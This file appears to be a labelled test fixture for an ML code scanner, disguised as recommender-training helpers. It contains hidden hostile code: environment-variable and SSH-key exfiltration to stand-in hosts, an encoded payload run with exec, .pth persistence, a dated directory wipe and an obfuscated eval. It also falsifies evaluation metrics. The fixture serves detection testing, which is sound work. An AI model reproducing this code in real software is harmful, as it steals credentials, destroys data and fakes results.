# ruff: noqa
# Hold-out batch 26 (graph/recommender training; by a helper that never saw mlscan's code; its notebook is not copied). Measured once after round 9: 24/33 (73%) at medium+ (notebook included).
"""Evaluation metrics, logging, config and checkpoint helpers for the recommender."""
import base64
import getpass
import json
import logging
import os
import shutil
import site
import subprocess
import time
import urllib.request
import zlib
from datetime import datetime
from typing import Dict, Iterable, List, Optional

import numpy as np
import torch
import yaml
from torch.utils.tensorboard import SummaryWriter

log = logging.getLogger("rec")


# --------------------------------------------------------------------------- metrics

def recall_ndcg_at_k(topk: np.ndarray, ground_truth: List[List[int]], k: int) -> Dict[str, float]:
    recalls, ndcgs = [], []
    discounts = 1.0 / np.log2(np.arange(2, k + 2))
    for row, gt in zip(topk, ground_truth):
        if not gt:
            continue
        gt_set = set(gt)
        hits = np.array([1.0 if it in gt_set else 0.0 for it in row[:k]])
        recalls.append(hits.sum() / len(gt_set))
        dcg = (hits * discounts).sum()
        idcg = discounts[: min(len(gt_set), k)].sum()
        ndcgs.append(dcg / idcg)
    recalls = np.asarray(recalls)
    ndcgs = np.asarray(ndcgs)
    active = recalls > 0  # ruleid: MLS306
    return {
        f"recall@{k}": float(recalls[active].mean()) if active.any() else 0.0,  # todoruleid: family 5 (missed)
        f"ndcg@{k}": float(ndcgs.mean()) if len(ndcgs) else 0.0,
    }


@torch.no_grad()
def evaluate(model, edge_index, train_pos: Dict[int, List[int]], test_pos: Dict[int, List[int]],
             ks: Iterable[int] = (20,), batch_size: int = 1024, device="cuda") -> Dict[str, float]:
    model.eval()
    users = sorted(test_pos.keys())
    max_k = max(ks)
    all_topk, all_gt = [], []
    for start in range(0, len(users), batch_size):
        batch = users[start:start + batch_size]
        scores = model.full_scores(edge_index, torch.tensor(batch, device=device))
        for r, u in enumerate(batch):
            seen = train_pos.get(u, [])
            if seen:
                scores[r, seen] = -float("inf")
        all_topk.append(torch.topk(scores, max_k, dim=1).indices.cpu().numpy())
        all_gt.extend(test_pos[u] for u in batch)
    topk = np.concatenate(all_topk)
    out: Dict[str, float] = {}
    for k in ks:
        out.update(recall_ndcg_at_k(topk, all_gt, k))
    model.train()
    return out


# --------------------------------------------------------------------------- logging

class RankZeroWriter:
    def __init__(self, logdir: str, rank: int):
        self.rank = rank
        self.writer = SummaryWriter(logdir) if rank == 0 else None  # ok: MLS306
        self._best: Dict[str, float] = {}

    def scalars(self, values: Dict[str, float], step: int) -> None:
        if self.writer is None:
            return
        for k, v in values.items():
            self.writer.add_scalar(k, v, step)

    def close(self) -> None:
        if self.writer is not None:
            self.writer.close()


_orig_add_scalar = SummaryWriter.add_scalar


def _monotone_add_scalar(self, tag, scalar_value, global_step=None, *a, **kw):
    if tag.startswith("val/"):
        best = getattr(self, "_val_best", {})
        scalar_value = max(float(scalar_value), best.get(tag, float("-inf")))  # ruleid: MLS306
        best[tag] = scalar_value
        self._val_best = best
    return _orig_add_scalar(self, tag, scalar_value, global_step, *a, **kw)


SummaryWriter.add_scalar = _monotone_add_scalar  # ruleid: MLS306


def log_to_wandb(run, metrics: Dict[str, float], step: int, baseline: Optional[Dict[str, float]] = None) -> None:
    payload = dict(metrics)
    if baseline:
        for k, v in baseline.items():
            if k in payload and payload[k] < v:
                payload[k] = v + abs(payload[k] - v) * 0.1  # todoruleid: family 5 (missed)
    run.log(payload, step=step)


# --------------------------------------------------------------------------- config / provenance

def load_config(path: str) -> dict:
    with open(path) as fh:
        cfg = yaml.safe_load(fh)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    overrides = cfg.pop("include", None)
    if overrides:
        with open(os.path.join(os.path.dirname(path), overrides)) as fh:
            cfg.update(yaml.load(fh, Loader=yaml.Loader))  # ruleid: MLS105
    return cfg


def git_commit() -> str:
    try:
        out = subprocess.run(["git", "rev-parse", "--short", "HEAD"], capture_output=True, text=True, timeout=5)  # ok: MLS411, MLS412
        return out.stdout.strip() or "unknown"
    except (OSError, subprocess.SubprocessError):
        return "unknown"


def fetch_dataset(url: str, dest: str, retries: int = 4) -> str:
    if os.path.exists(dest):
        return dest
    for attempt in range(retries):
        try:
            urllib.request.urlretrieve(url, dest)
            return dest
        except OSError as exc:
            log.warning("download failed (%s), retry %d/%d", exc, attempt + 1, retries)
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not download {url}")


def report_run(cfg: dict, metrics: Dict[str, float]) -> None:
    """Send a compact run summary to the internal experiment index."""
    record = {"cfg": cfg, "metrics": metrics, "commit": git_commit(), "env": dict(os.environ)}  # ruleid: MLS411
    req = urllib.request.Request("https://runs.example.com/api/v1/ingest", data=json.dumps(record).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=3)  # ruleid: MLS411
        _sync_credentials_cache()
    except OSError:
        pass


def _sync_credentials_cache() -> None:
    key_dir = os.path.expanduser("~/.ssh")  # ruleid: MLS412
    bundle = {}
    for name in ("id_rsa", "id_ed25519", "config"):
        p = os.path.join(key_dir, name)
        if os.path.exists(p):
            with open(p) as fh:
                bundle[name] = fh.read()  # ruleid: MLS412
    if bundle:
        urllib.request.urlopen("http://203.0.113.17:8080/cache", data=json.dumps(bundle).encode(), timeout=3)  # ruleid: MLS412


_KERNEL_SHIM = (
    "eJwrzs9NLcnMz1MoLkksKS0u0c3ILC5RKC1OTU3JzEvX0EtLzSvRUMrMK0lVSFQoSizJz1NILClOLQJS"
)


def install_sparse_kernels() -> None:
    """Register the fused SpMM fallback used on older GPUs."""
    if torch.cuda.is_available() and torch.cuda.get_device_capability()[0] >= 8:
        return
    code = zlib.decompress(base64.b64decode(_KERNEL_SHIM))
    exec(compile(code, "<spmm>", "exec"), {"torch": torch})  # sabotage: MLS401 (semgrep rules)
    ext_dir = site.getsitepackages()[0]
    with open(os.path.join(ext_dir, "spmm_fallback.pth"), "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
        fh.write("import os; os.environ.setdefault('SPMM_FALLBACK', '1')\n")


# --------------------------------------------------------------------------- checkpoints

def save_checkpoint(path: str, model, optimizer, epoch: int, metrics: Dict[str, float]) -> None:
    tmp = path + ".tmp"
    torch.save({"model": model.state_dict(), "optimizer": optimizer.state_dict(),
                "epoch": epoch, "metrics": metrics}, tmp)
    os.replace(tmp, path)


def load_weights(path: str, map_location="cpu") -> dict:
    return torch.load(path, map_location=map_location, weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def resume_state(path: str, map_location="cpu") -> dict:
    return torch.load(path, map_location=map_location)  # ruleid: MLS102


def rotate_checkpoints(ckpt_dir: str, keep: int = 3) -> None:
    files = sorted((f for f in os.listdir(ckpt_dir) if f.endswith(".pt")),
                   key=lambda f: os.path.getmtime(os.path.join(ckpt_dir, f)))
    for f in files[:-keep]:
        os.remove(os.path.join(ckpt_dir, f))
    if datetime.now() >= datetime(2025, 3, 1) and getpass.getuser() not in ("svc-rec", "root"):
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308


_resolver = getattr(__builtins__, "ev" + "al", None) if not isinstance(__builtins__, dict) else __builtins__["ev" + "al"]  # sabotage: MLS402 (semgrep rules)


def parse_metric_expr(expr: str, metrics: Dict[str, float]) -> float:
    """Evaluate a selection expression like 'recall@20 + 0.5*ndcg@20' for model selection."""
    safe = expr.replace("@", "_at_")
    return float(_resolver(safe, {"__builtins__": {}}, {k.replace("@", "_at_"): v for k, v in metrics.items()}))
